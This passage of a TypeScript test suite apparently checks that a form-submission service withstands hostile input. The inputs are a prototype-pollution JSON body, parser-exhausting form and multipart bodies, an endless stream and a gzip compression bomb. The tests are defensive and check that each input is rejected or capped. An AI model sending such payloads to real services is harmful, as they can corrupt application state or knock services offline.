      body: `{"email":"kari@firma.no","x":${value},"__proto__":${value},"constructor":"y","toString":"z"}`,
    });
    expect([201, 400, 413]).toContain(response.status);
    expect(({} as { admin?: boolean }).admin).toBeUndefined();
    expect((await kilde.api('GET', '/submissions')).status).toBe(200);
    const [sent] = (await kilde.api('GET', '/submissions')).body.items;
    if (response.status === 201) expect([sent.fields['constructor'], sent.fields['toString']]).toEqual(['y', 'z']);
  });

  const part = (name: string, value: string) =>
    `--x\r\ncontent-disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
  const encoded = 'application/x-www-form-urlencoded';
  const multipart = 'multipart/form-data; boundary=x';
  it.each([
    ['separators alone', encoded, `email=a@b.no${'&'.repeat(200_000)}`, [201]],
    ['a hundred thousand fields', encoded, `email=a@b.no${'&a'.repeat(100_000)}`, [201]],
    ['escapes that stop half-way', encoded, `email=a@b.no&x=${'%'.repeat(100_000)}`, [201]],
    ['one name again and again', encoded, `email=a@b.no${'&a=b'.repeat(299)}`, [201]],
    ['thousands of parts', multipart, `${part('email', 'a@b.no')}${part('a', '').repeat(4_000)}--x--`, [201]],
    ['a part within a part', multipart, `${part('email', 'a@b.no')}${part('a', '--y\r\n'.repeat(9_000))}--x--`, [201]],
    ['a head without an end', multipart, `--x\r\n${'a: b\r\n'.repeat(30_000)}`, [400]],
    ['a boundary of thousands', `multipart/form-data; boundary=${'x'.repeat(8_000)}`, '--x--', [400]],
    ['JSON called a form', encoded, '{"email":"a@b.no"}', [201]],
  ])('is not held up by %s', async (_, type, body, statuses) => {
    kilde.roundTrips();
    const headers = { accept: 'application/json', 'content-type': type };
    const response = await kilde.request('/f/demo', { method: 'POST', headers, body });
    expect(statuses).toContain(response.status);
    expect(kilde.roundTrips()).toBeLessThan(4);
    // A bound refuses no lead: what is beyond it is left out, and a note says so.
    const [sent] = (await kilde.api('GET', '/submissions')).body.items;
    if (response.status === 201) expect(Object.values(sent.fields).flat().length).toBeLessThanOrEqual(301);
  });

  it.each([
    // JSON cannot be read in parts: a form's is read as far as 4 MiB, so that a long answer refuses no lead.
    ['/f/demo', 4 * 1024 * 1024],
    ['/api/v1/segments/query', 1024 * 1024],
  ])('reads no more than its limit of what never ends at %s', async (path, maxBytes) => {
    let given = 0;
    const endless = new ReadableStream<Uint8Array>({
      pull(controller) {
        given += 1;
        controller.enqueue(new TextEncoder().encode('a'.repeat(16_384)));
      },
    });
    const headers = { ...key, 'content-type': 'application/json' };
    const response = await kilde.request(path, { method: 'POST', headers, body: endless });
    expect(response.status).toBe(413);
    expect(given * 16_384).toBeLessThan(maxBytes + 8 * 16_384);
  });

  it('does not unpack what is packed', async () => {
    const packed = new Response('a'.repeat(10_000_000)).body!.pipeThrough(new CompressionStream('gzip'));
    const response = await kilde.request('/f/demo', {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' },
      body: await new Response(packed).arrayBuffer(),
    });
    expect(response.status).toBe(400);
  });
});
